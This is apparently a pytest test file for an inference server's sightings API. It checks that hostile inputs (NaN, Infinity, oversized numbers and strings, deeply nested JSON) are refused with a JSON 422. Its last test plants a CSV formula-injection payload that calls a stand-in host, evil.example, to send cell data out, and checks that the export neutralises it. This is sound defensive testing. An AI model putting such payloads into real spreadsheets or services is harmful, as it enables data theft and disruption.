"""Hostile numbers and shapes on the wire (issue 19, rows 9, 10 and 13): a 422 that is itself valid JSON, never a 500,
never a stored NaN, and exports that stay valid JSON."""

from __future__ import annotations

import json
import math
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session, select

from inference_server.app import create_app
from inference_server.db import make_engine
from inference_server.settings import Settings
from inference_server.tables import Sighting
from testbed.people import PASSWORD, add_people
from tests.test_outbox import make_sightings

NAN, INF = float("nan"), float("inf")
World = tuple[TestClient, Settings, dict[str, str], dict[str, str]]  # the server, its settings, device, reviewer


def _strict_json(text: str) -> Any:
    """Parse as RFC 8259 JSON: NaN and Infinity are not JSON."""

    def refuse(constant: str) -> None:
        raise ValueError(f"{constant} is not JSON")

    return json.loads(text, parse_constant=refuse)


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    """A server, its device's headers and a reviewer's."""
    settings = Settings(data_dir=tmp_path / "data")
    key = add_people(settings, "car-1")
    with TestClient(create_app(settings)) as http:
        token = http.post("/api/v1/auth/token", data={"username": "reviewer", "password": PASSWORD}).json()
        yield http, settings, {"X-API-Key": key}, {"Authorization": f"Bearer {token['access_token']}"}


def _sighting(tmp_path: Path) -> tuple[dict[str, Any], dict[str, tuple[str, bytes, str]]]:
    sighting = make_sightings(tmp_path / "ev", 1)[0]
    record = json.loads(sighting.to_json())
    record["location"] = {"lat": 31.2, "lon": 121.4, "heading_deg": 90.0}
    files = {k: (f"{k}.jpg", Path(getattr(sighting, k).path).read_bytes(), "image/jpeg") for k in ("frame", "crop")}
    return record, files


def _stored(settings: Settings) -> list[Sighting]:
    engine = make_engine(settings.url)
    with Session(engine) as s:
        rows = list(s.exec(select(Sighting)).all())
    engine.dispose()
    return rows


HOSTILE = [
    ("lat NaN", {"location": {"lat": NAN, "lon": 121.4}}),
    ("score NaN", {"score": NAN}),
    ("first_time NaN", {"first_time": NAN}),
    ("best_time Infinity", {"best_time": INF}),
    ("last_time -Infinity", {"last_time": -INF}),
    ("frames 10**30", {"frames": 10**30}),
    ("box NaN", {"box": [NAN, 0, 10, 10]}),
    ("box 1e308", {"box": [0, 0, 1e308, 10]}),
    ("box -1e308", {"box": [-1e308, 0, 10, 10]}),
    ("heading Infinity", {"location": {"lat": 31.2, "lon": 121.4, "heading_deg": INF}}),
    ("source of 900,000 characters", {"source": "x" * 900_000}),
    ("model of 900,000 characters", {"model": "m" * 900_000}),
]


@pytest.mark.parametrize(("name", "change"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_metadata_is_a_json_422_and_nothing_is_stored(
    world: World, tmp_path: Path, name: str, change: dict[str, Any]
) -> None:
    http, settings, device, _ = world
    record, files = _sighting(tmp_path)
    record.update(change)
    response = http.post("/api/v1/sightings", data={"metadata": json.dumps(record)}, files=files,
                         headers={**device, "Idempotency-Key": record["sighting_id"]})  # fmt: skip
    assert response.status_code == 422, response.text[:300]
    _strict_json(response.text)
    assert len(response.content) < 20_000  # the refused value is not echoed back whole
    assert _stored(settings) == []


@pytest.mark.parametrize(("name", "change"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_items_of_a_batch_are_refused_one_by_one(
    world: World, tmp_path: Path, name: str, change: dict[str, Any]
) -> None:
    http, settings, device, _ = world
    record, files = _sighting(tmp_path)
    hostile = {**record, **change, "sighting_id": "hostile"}
    evidence = [("evidence", part) for part in files.values()]
    body = {"sightings": json.dumps([record, hostile])}
    response = http.post("/api/v1/sightings/batch", data=body, files=evidence, headers=device)
    assert response.status_code == 200, response.text[:300]
    assert [a["status"] for a in _strict_json(response.text)] == [201, 422]
    assert [r.idempotency_key for r in _stored(settings)] == [record["sighting_id"]]


@pytest.mark.parametrize("opening", ["[", '{"a":'])
def test_deeply_nested_batch_json_is_a_422(world: World, tmp_path: Path, opening: str) -> None:
    http, _, device, _ = world
    _, files = _sighting(tmp_path)
    deep = opening * 100_000
    evidence = [("evidence", part) for part in files.values()]
    response = http.post("/api/v1/sightings/batch", data={"sightings": deep}, files=evidence, headers=device)
    assert response.status_code == 422, response.text[:300]
    assert "recursion limit" in _strict_json(response.text)["detail"][0]["msg"]


@pytest.mark.parametrize("box", [[NAN, 0, 9, 9], [0, 0, INF, 9], [0, 0, 1e308, 9]])
def test_a_reviewer_cannot_fix_a_box_to_nan_or_infinity(world: World, tmp_path: Path, box: list[float]) -> None:
    http, settings, device, reviewer = world
    record, files = _sighting(tmp_path)
    stored = http.post("/api/v1/sightings", data={"metadata": json.dumps(record)}, files=files,
                       headers={**device, "Idempotency-Key": record["sighting_id"]})  # fmt: skip
    assert stored.status_code == 201
    response = http.post(
        f"/api/v1/sightings/{stored.json()['id']}/decision",
        content=json.dumps({"action": "fix_box", "box": box}),
        headers={**reviewer, "Content-Type": "application/json"},
    )
    assert response.status_code == 422, response.text[:300]
    _strict_json(response.text)
    assert _stored(settings)[0].box == record["box"]


@pytest.mark.parametrize("change", [{"time": NAN}, {"time": INF, "lat": 31.2}, {"time": 1.0, "lat": NAN}])
def test_a_raw_frame_with_nan_metadata_is_a_json_422(world: World, change: dict[str, Any]) -> None:
    http, _, device, _ = world
    response = http.post("/api/v1/frames", data={"metadata": json.dumps(change)},
                         files={"image": ("x.jpg", b"nope", "image/jpeg")},
                         headers={**device, "Idempotency-Key": "nan-frame"})  # fmt: skip
    assert response.status_code == 422, response.text[:300]
    _strict_json(response.text)


def test_exports_stay_json_even_with_numbers_stored_before_the_checks(world: World, tmp_path: Path) -> None:
    """Rows written by an older server may hold Infinity or NaN; the GeoJSON export writes them as null."""
    http, settings, device, _ = world
    record, files = _sighting(tmp_path)
    stored = http.post("/api/v1/sightings", data={"metadata": json.dumps(record)}, files=files,
                       headers={**device, "Idempotency-Key": record["sighting_id"]})  # fmt: skip
    assert stored.status_code == 201
    engine = make_engine(settings.url)
    with Session(engine) as s:
        row = s.exec(select(Sighting)).one()
        row.best_time, row.box = INF, [NAN, 0.0, 10.0, -INF]
        s.add(row)
        s.commit()
    engine.dispose()
    admin = http.post("/api/v1/auth/token", data={"username": "admin", "password": PASSWORD}).json()
    viewer = {"Authorization": f"Bearer {admin['access_token']}"}
    response = http.get("/api/v1/exports/sightings.geojson", headers=viewer)
    assert response.status_code == 200
    feature = _strict_json(response.text)["features"][0]
    assert feature["properties"]["best_time"] is None and feature["properties"]["box"] == [None, 0.0, 10.0, None]
    assert not math.isnan(feature["geometry"]["coordinates"][1])


def test_a_formula_in_a_device_source_is_text_in_the_csv_export(world: World, tmp_path: Path) -> None:
    import csv
    import io

    http, _, device, _ = world
    record, files = _sighting(tmp_path)
    record["source"] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    stored = http.post("/api/v1/sightings", data={"metadata": json.dumps(record)}, files=files,
                       headers={**device, "Idempotency-Key": record["sighting_id"]})  # fmt: skip
    assert stored.status_code == 201
    admin = http.post("/api/v1/auth/token", data={"username": "admin", "password": PASSWORD}).json()
    response = http.get("/api/v1/exports/sightings.csv", headers={"Authorization": f"Bearer {admin['access_token']}"})
    (row,) = csv.DictReader(io.StringIO(response.text))
    assert row["source"] == "'" + record["source"]
    assert row["score"] == str(record["score"])  # numbers are left alone
